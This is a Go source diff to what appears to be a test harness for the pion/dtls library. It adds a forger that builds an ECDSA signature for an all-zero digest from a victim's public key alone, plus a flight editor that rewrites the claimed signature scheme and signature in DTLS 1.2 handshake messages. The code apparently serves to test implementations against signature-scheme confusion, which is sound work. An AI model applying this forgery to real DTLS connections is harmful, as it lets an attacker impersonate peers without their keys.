@@ -2,14 +2,19 @@ package world
 
 import (
 	"crypto"
+	"crypto/ecdsa"
 	"crypto/sha256"
 	"crypto/tls"
+	"encoding/asn1"
 	"io"
+	"math/big"
 
 	dtls "github.com/pion/dtls/v3"
 	dtlsflight "github.com/pion/dtls/v3/internal/flight"
 	dtlshandshake "github.com/pion/dtls/v3/internal/handshake"
 	dtlsstate "github.com/pion/dtls/v3/internal/state"
+	"github.com/pion/dtls/v3/pkg/crypto/hash"
+	"github.com/pion/dtls/v3/pkg/crypto/signature"
 	"github.com/pion/dtls/v3/pkg/protocol/handshake"
 	"github.com/pion/dtls/v3/zzverif/refimpl"
 )
@@ -154,4 +159,57 @@ func WithSigner(cert tls.Certificate, k crypto.Signer) *tls.Certificate {
 	c := cert
 	c.PrivateKey = k
 	return &c
+}
+
+// --- signature-scheme confusion (forgery from the PUBLIC key alone) --------------------------------
+
+// PublicOnlySigner holds only a victim's ECDSA public key. Sign returns an ECDSA signature that verifies
+// for the all-zero digest e=0: pick k, P = k*Q, r = P.x mod n, s = r*k^-1 mod n. It is what an attacker who
+// merely knows the victim's certificate can produce; it is only "valid" if the verifier hashes the signed
+// message to an empty digest (e.g. because the claimed scheme has no prehash) and still runs ECDSA.
+type PublicOnlySigner struct{ Pub *ecdsa.PublicKey }
+
+func (s PublicOnlySigner) Public() crypto.PublicKey { return s.Pub }
+
+func (s PublicOnlySigner) Sign(io.Reader, []byte, crypto.SignerOpts) ([]byte, error) {
+	return ForgeZeroDigestECDSA(s.Pub)
+}
+
+// ForgeZeroDigestECDSA returns the ASN.1 signature described above.
+func ForgeZeroDigestECDSA(pub *ecdsa.PublicKey) ([]byte, error) {
+	curve := pub.Curve
+	n := curve.Params().N
+	k := big.NewInt(0x5eed1234)
+	x, _ := curve.ScalarMult(pub.X, pub.Y, k.Bytes()) //nolint:staticcheck // attacker arithmetic on a public point
+	r := new(big.Int).Mod(x, n)
+	s := new(big.Int).Mul(r, new(big.Int).ModInverse(k, n))
+	s.Mod(s, n)
+	return asn1.Marshal(struct{ R, S *big.Int }{r, s})
+}
+
+// ClaimScheme returns an editor that rewrites the signature scheme claimed in the ServerKeyExchange
+// (flight "Flight 4") or CertificateVerify (flight "Flight 5") of a DTLS 1.2 flight and replaces the
+// signature bytes.
+func ClaimScheme(flight string, h hash.Algorithm, sig signature.Algorithm, forged func() []byte) FlightEdit {
+	return func(e *Endpoint, st dtlsstate.Active, fl string, pkts []*dtlsflight.Packet) []*dtlsflight.Packet {
+		if fl != flight {
+			return pkts
+		}
+		for _, p := range pkts {
+			hs, ok := p.Record.Content.(*handshake.Handshake)
+			if !ok {
+				continue
+			}
+			switch m := hs.Message.(type) {
+			case *handshake.MessageServerKeyExchange:
+				m.HashAlgorithm, m.SignatureAlgorithm, m.Signature = h, sig, forged()
+			case *handshake.MessageCertificateVerify:
+				m.HashAlgorithm, m.SignatureAlgorithm, m.Signature = h, sig, forged()
+			}
+		}
+		if s12, ok := st.(*dtlsstate.State12); ok && s12.IsClient {
+			refinish12(e, s12, pkts)
+		}
+		return pkts
+	}
 }
